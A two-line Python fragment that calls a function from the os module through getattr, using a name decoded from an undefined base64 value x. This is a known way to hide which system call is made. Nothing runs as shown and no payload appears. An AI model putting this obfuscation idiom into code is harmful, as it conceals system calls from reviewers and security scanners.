import os, base64

getattr(os, base64.b64decode(x).decode())
